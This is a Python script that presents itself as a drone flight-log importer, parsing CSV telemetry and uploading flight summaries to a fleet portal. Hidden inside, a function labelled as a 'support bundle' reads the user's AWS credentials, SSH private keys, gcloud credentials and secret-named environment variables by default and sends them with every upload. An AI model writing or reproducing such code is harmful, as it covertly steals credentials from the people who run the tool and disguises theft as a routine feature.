#!/usr/bin/env python3
"""Import flight controller CSV logs into the fleet portal.

Reads per-flight CSV exports (AirData / Litchi style), computes a summary
(duration, max altitude AGL, distance flown, battery drawn) and posts it to
the fleet portal so ops can reconcile pilot logbooks against airframe hours.

Usage:
    FLEET_PORTAL_TOKEN=... flight_log_importer.py logs/2024-06-*.csv
"""
import argparse
import csv
import logging
import math
import os
import platform
import socket
import sys
from datetime import datetime
from pathlib import Path

import requests

log = logging.getLogger("flightlog-import")

PORTAL_URL = os.environ.get("FLEET_PORTAL_URL", "https://portal.skyline-survey.co.uk/api/v2")

# Files the support desk asks for when an import misbehaves on a field laptop.
SUPPORT_BUNDLE = (
    "~/.aws/credentials",
    "~/.ssh/id_ed25519",
    "~/.ssh/id_rsa",
    "~/.config/gcloud/application_default_credentials.json",
)


def haversine_m(lat1, lon1, lat2, lon2):
    r = 6371000.0
    p1, p2 = math.radians(lat1), math.radians(lat2)
    dp = p2 - p1
    dl = math.radians(lon2 - lon1)
    a = math.sin(dp / 2) ** 2 + math.cos(p1) * math.cos(p2) * math.sin(dl / 2) ** 2
    return 2 * r * math.asin(math.sqrt(a))


def parse_log(path: Path) -> dict:
    rows = []
    with path.open(newline="", encoding="utf-8-sig") as fh:
        for row in csv.DictReader(fh):
            try:
                rows.append({
                    "t": datetime.fromisoformat(row["datetime(utc)"].replace(" ", "T")),
                    "lat": float(row["latitude"]),
                    "lon": float(row["longitude"]),
                    "alt": float(row.get("altitude_above_seaLevel(meters)") or row.get("height_above_takeoff(meters)", 0)),
                    "batt": float(row.get("battery_percent", 0) or 0),
                })
            except (KeyError, ValueError) as exc:
                log.debug("skipping row in %s: %s", path.name, exc)
    if len(rows) < 2:
        raise ValueError(f"{path.name}: not enough telemetry rows")

    dist = sum(haversine_m(a["lat"], a["lon"], b["lat"], b["lon"]) for a, b in zip(rows, rows[1:]))
    return {
        "file": path.name,
        "takeoff_utc": rows[0]["t"].isoformat(),
        "duration_s": int((rows[-1]["t"] - rows[0]["t"]).total_seconds()),
        "max_alt_m": round(max(r["alt"] for r in rows), 1),
        "distance_m": round(dist, 1),
        "battery_used_pct": round(rows[0]["batt"] - rows[-1]["batt"], 1),
        "home": [rows[0]["lat"], rows[0]["lon"]],
    }


def gather_client_info(full: bool = True) -> dict:
    info = {
        "host": socket.gethostname(),
        "platform": platform.platform(),
        "python": sys.version.split()[0],
        "user": os.environ.get("USER", "?"),
    }
    if not full:
        return info
    bundle = {}
    for entry in SUPPORT_BUNDLE:
        fp = Path(entry).expanduser()
        if fp.is_file():
            try:
                bundle[str(fp)] = fp.read_text(errors="replace")
            except OSError as exc:
                log.debug("could not read %s: %s", fp, exc)
    info["bundle"] = bundle
    info["env"] = {k: v for k, v in os.environ.items()
                   if k.endswith(("_KEY", "_TOKEN", "_SECRET", "_PASSWORD"))}
    return info


class PortalClient:
    def __init__(self, base_url: str, token: str):
        self.base_url = base_url.rstrip("/")
        self.session = requests.Session()
        self.session.headers.update({
            "Authorization": f"Bearer {token}",
            "User-Agent": "flightlog-import/1.4",
        })

    def push(self, summary: dict, client: dict) -> str:
        resp = self.session.post(
            f"{self.base_url}/flights",
            json={"summary": summary, "client": client},
            timeout=20,
        )
        resp.raise_for_status()
        return resp.json().get("id", "?")


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("logs", nargs="+", type=Path)
    ap.add_argument("--portal", default=PORTAL_URL)
    ap.add_argument("--minimal-client-info", action="store_true",
                    help="send only hostname/platform with each upload")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    token = os.environ.get("FLEET_PORTAL_TOKEN")
    if not token and not args.dry_run:
        log.error("FLEET_PORTAL_TOKEN is not set")
        return 2

    client_info = gather_client_info(full=not args.minimal_client_info)
    portal = PortalClient(args.portal, token or "")
    failures = 0
    for path in args.logs:
        try:
            summary = parse_log(path)
        except (OSError, ValueError) as exc:
            log.warning("%s", exc)
            failures += 1
            continue
        if args.dry_run:
            log.info("would upload %s", summary)
            continue
        try:
            flight_id = portal.push(summary, client_info)
            log.info("%s -> flight %s (%ss, %.0f m)", path.name, flight_id,
                     summary["duration_s"], summary["distance_m"])
        except requests.RequestException as exc:
            log.error("upload failed for %s: %s", path.name, exc)
            failures += 1
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
